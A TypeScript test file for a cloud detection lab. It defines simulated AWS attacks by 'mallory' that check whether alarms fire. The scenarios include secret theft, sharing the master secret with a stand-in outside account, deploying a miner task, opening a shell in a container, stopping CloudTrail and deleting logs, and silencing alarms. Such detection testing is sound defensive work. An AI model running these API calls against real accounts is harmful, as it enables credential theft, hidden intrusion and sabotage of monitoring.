import { alarmNameOf } from "../../detections/cloudwatch-names.ts";
import type { DetectionScope } from "../../detections/scope.ts";
import { expectDenied } from "./aws-client.ts";
import { databaseChangeScenarios, databaseCopyScenarios } from "./database-scenarios.ts";
import { kmsKeyChangeScenarios, useKeyWithChangedPolicy } from "./kms-scenarios.ts";
import { decryptElsewhere, roleChangeScenarios, withServiceRole } from "./role-scenarios.ts";
import type { Scenario } from "./scenario.ts";
import {
  copyUntilRejected,
  decryptRepeatedly,
  tryWrongKeys,
  useForeignKey,
} from "./service-scenarios.ts";
import {
  borrowedRoleScenarios,
  containerDefinitions,
  elb,
  imageScenarios,
  placementScenarios,
  requestScenarios,
  serviceStopScenarios,
  targetGroupArn,
} from "./workload-scenarios.ts";

const live = (description: string, run: Scenario["run"]): Scenario => ({
  description,
  kind: "live",
  run,
});

/** Lab seconds per real second. */
const COPY_SPEED = 600;

const slowCopy: Scenario = {
  // Takes seconds of real time and hours of lab time, so that it stays below the quota per minute.
  ...live(
    "somebody with a stolen access token copies records slowly until the daily quota rejects the requests",
    (lab) => lab.atSpeed(COPY_SPEED, () => copyUntilRejected(lab)),
  ),
  identity: "on",
};

/** Scenarios of real calls to the lab, by the id of the detection that must report them. */
export const LIVE_SCENARIOS: Readonly<Record<string, readonly Scenario[]>> = {
  "kms-errors": [
    live("somebody sends wrong Keys to the service", (lab, threshold) =>
      tryWrongKeys(lab, threshold),
    ),
    {
      ...live("mallory tries alice's Key with an access token of her own", useForeignKey),
      identity: "on",
    },
  ],
  "decrypt-denied": [
    // Send more than the threshold: lab time runs faster, so the requests spread over several 20-second periods.
    live("a program sends many wrong Keys per second to the service", (lab, threshold) =>
      tryWrongKeys(lab, threshold * 10),
    ),
  ],
  "kms-outsider": [
    live(
      "mallory changes the policy of the service's KMS key, which denies her, then encrypts and decrypts",
      useKeyWithChangedPolicy,
    ),
  ],
  "kms-volume": [
    live(
      "somebody with a Key decrypts a record 1.5 times as often as the alarm's threshold",
      // Run in real time, so that even a slow machine makes enough requests within a period of the alarm.
      (lab, threshold) => lab.atSpeed(1, () => decryptRepeatedly(lab, Math.ceil(threshold * 1.5))),
    ),
  ],
  "client-volume": [slowCopy],
  "quota-exceeded": [slowCopy],
  "kms-key-change": kmsKeyChangeScenarios,
  "role-change": roleChangeScenarios,
  "database-copy": databaseCopyScenarios,
  "database-change": databaseChangeScenarios,
  "service-credentials-outside": [
    live("mallory assumes the service's role and calls GetCallerIdentity", (lab) =>
      withServiceRole(lab, (session) => session.query("sts", "GetCallerIdentity")),
    ),
    live("mallory decrypts with the service's role, from her own address", decryptElsewhere),
  ],
  "denied-api": [
    live("mallory assumes the service's role and looks for secrets", (lab, threshold) =>
      withServiceRole(lab, async (session) => {
        for (let call = 0; call < threshold; call += 1) {
          await expectDenied(session.json("secretsmanager", "BatchGetSecretValue"));
        }
      }),
    ),
  ],
  "secret-access": [
    live("mallory reads every secret that a filter finds, then the master secret", async (lab) => {
      const { attacker } = lab;
      const Filters = [{ Key: "name", Values: ["rds!"] }];
      const found = await attacker.json("secretsmanager", "BatchGetSecretValue", { Filters });
      const [secret] = found.SecretValues as readonly { readonly ARN: string }[];
      await attacker.json("secretsmanager", "GetSecretValue", { SecretId: secret?.ARN });
    }),
    live("mallory shares the master secret with another account", async ({ attacker }) => {
      const found = await attacker.json("secretsmanager", "BatchGetSecretValue");
      const [secret] = found.SecretValues as readonly { readonly ARN: string }[];
      await attacker.json("secretsmanager", "PutResourcePolicy", {
        SecretId: secret?.ARN,
        ResourcePolicy: JSON.stringify({
          Version: "2012-10-17",
          Statement: {
            Effect: "Allow",
            Principal: { AWS: "arn:aws:iam::444455556666:root" },
            Action: "secretsmanager:GetSecretValue",
            Resource: "*",
          },
        }),
      });
    }),
  ],
  "ecs-change": [
    live("mallory deploys another task definition to the service", ({ attacker, scope }) =>
      attacker.json("ecs", "UpdateService", {
        cluster: `${scope.namePrefix}service`,
        service: `${scope.namePrefix}service`,
        taskDefinition: "miner:1",
      }),
    ),
    live("mallory opens a shell in a task of the service", ({ attacker, scope }) =>
      attacker.json("ecs", "ExecuteCommand", {
        cluster: `${scope.namePrefix}service`,
        task: "5e1d0a9c4b8f47d2a6c3e7f0918b2d54",
        command: "/bin/sh",
        interactive: true,
      }),
    ),
    ...serviceStopScenarios,
  ],
  "role-borrowed": [
    live("mallory registers a task definition with the execution role", ({ attacker, scope }) =>
      attacker.json("ecs", "RegisterTaskDefinition", {
        family: "maintenance",
        executionRoleArn: scope.executionRoleArn,
        containerDefinitions,
      }),
    ),
    live("mallory registers a task definition that runs as the execution role", (lab) =>
      lab.attacker.json("ecs", "RegisterTaskDefinition", {
        family: "maintenance",
        taskRoleArn: lab.scope.executionRoleArn,
        containerDefinitions,
      }),
    ),
    live("mallory runs the service's task definition in another cluster", ({ attacker, scope }) =>
      attacker.json("ecs", "RunTask", {
        cluster: "default",
        taskDefinition: `${scope.namePrefix}service:12`,
      }),
    ),
    live("mallory runs a task with the execution role as an override", ({ attacker, scope }) =>
      attacker.json("ecs", "RunTask", {
        taskDefinition: "maintenance:1",
        overrides: { taskRoleArn: scope.executionRoleArn },
      }),
    ),
    ...borrowedRoleScenarios,
  ],
  "ingress-change": [
    live("mallory changes the listener", (lab) =>
      lab.attacker.query("elasticloadbalancing", "ModifyListener", {
        ListenerArn: elb(
          lab,
          `listener/app/${lab.scope.namePrefix}service/50dc6c495c0c9188/f2f7dc8efc522ab2`,
        ),
        Protocol: "HTTP",
      }),
    ),
    live("mallory registers her own target", (lab) =>
      lab.attacker.query("elasticloadbalancing", "RegisterTargets", {
        TargetGroupArn: targetGroupArn(lab),
        "Targets.member.1.Id": "172.31.7.7",
      }),
    ),
    live("mallory detaches the web ACL", (lab) =>
      lab.attacker.json("wafv2", "DisassociateWebACL", {
        ResourceArn: elb(lab, `loadbalancer/app/${lab.scope.namePrefix}service/50dc6c495c0c9188`),
      }),
    ),
    ...requestScenarios,
  ],
  "network-change": [
    live("mallory deletes a VPC endpoint", ({ attacker }) =>
      attacker.query("ec2", "DeleteVpcEndpoints", { "VpcEndpointId.1": "vpce-0a1b2c3d4e5f60718" }),
    ),
    ...placementScenarios,
  ],
  "image-change": [
    live("mallory shares the image repository", ({ attacker, scope }) =>
      attacker.json("ecr", "SetRepositoryPolicy", {
        repositoryName: `${scope.namePrefix}service`,
        policyText: "{}",
      }),
    ),
    live("mallory pushes an image", ({ attacker, scope }) =>
      attacker.json("ecr", "PutImage", {
        repositoryName: `${scope.namePrefix}service`,
        imageManifest: "{}",
        imageTag: "latest",
      }),
    ),
    ...imageScenarios,
  ],
  "trail-change": [
    live("mallory stops the trail and starts it again", async ({ attacker, trailArn }) => {
      try {
        await attacker.json("cloudtrail", "StopLogging", { Name: trailArn });
      } finally {
        await attacker.json("cloudtrail", "StartLogging", { Name: trailArn });
      }
    }),
    live("mallory turns off the trail's Insights", ({ attacker, trailArn }) =>
      attacker.json("cloudtrail", "PutInsightSelectors", {
        TrailName: trailArn,
        InsightSelectors: [],
      }),
    ),
    live("mallory replaces the key of the trail's log group", ({ attacker, scope }) =>
      attacker.json("logs", "AssociateKmsKey", {
        logGroupName: scope.trailLogGroupName,
        kmsKeyId: scope.topicKeyArn ?? scope.keyArn,
      }),
    ),
    live("mallory masks the trail's log events", ({ attacker, scope }) =>
      attacker.json("logs", "PutDataProtectionPolicy", {
        logGroupIdentifier: scope.trailLogGroupName,
        policyDocument: "{}",
      }),
    ),
    live("mallory allows bearer tokens to write to the trail's log group", ({ attacker, scope }) =>
      attacker.json("logs", "PutBearerTokenAuthentication", {
        logGroupIdentifier: scope.trailLogGroupName,
        bearerTokenAuthenticationEnabled: true,
      }),
    ),
    live("mallory deletes the log group of the web ACL", ({ attacker, scope }) =>
      attacker.json("logs", "DeleteLogGroup", {
        logGroupName: `aws-waf-logs-${scope.namePrefix}service`,
      }),
    ),
    live("mallory deletes the flow log", ({ attacker }) =>
      attacker.query("ec2", "DeleteFlowLogs", { "FlowLogId.1": "fl-0a1b2c3d4e5f60718" }),
    ),
  ],
  "alarm-change": [
    live(
      "mallory disables the actions of an alarm and enables them again",
      async ({ attacker, state, scope }) => {
        const { alarms } = await state();
        const alarm = alarms.find(
          ({ name }) => name !== alarmNameOf({ id: "alarm-change" }, scope),
        );
        if (alarm === undefined) throw new Error("The lab has no other alarm to disable.");
        const AlarmNames = [alarm.name];
        try {
          await attacker.json("cloudwatch", "DisableAlarmActions", { AlarmNames });
        } finally {
          await attacker.json("cloudwatch", "EnableAlarmActions", { AlarmNames });
        }
      },
    ),
    live("mallory purges the queue of the alarm events", ({ attacker, scope, region }) =>
      attacker.json("sqs", "PurgeQueue", {
        QueueUrl: `https://sqs.${region}.amazonaws.com/${scope.accountId}/${scope.namePrefix}alarm-events`,
      }),
    ),
    live("mallory makes the urgent topic reject messages", ({ attacker, scope, region }) =>
      attacker.query("sns", "PutDataProtectionPolicy", {
        ResourceArn: urgentTopicArn(scope, region),
        DataProtectionPolicy: "{}",
      }),
    ),
    live("mallory subscribes to the urgent topic", ({ attacker, scope, region }) =>
      attacker.query("sns", "Subscribe", {
        TopicArn: urgentTopicArn(scope, region),
        Protocol: "email",
        Endpoint: "mallory@example.com",
      }),
    ),
  ],
};

function urgentTopicArn(scope: DetectionScope, region: string): string {
  const { existingTopicArns: [existing] = [], accountId, namePrefix } = scope;
  return existing ?? `arn:aws:sns:${region}:${accountId}:${namePrefix}urgent`;
}
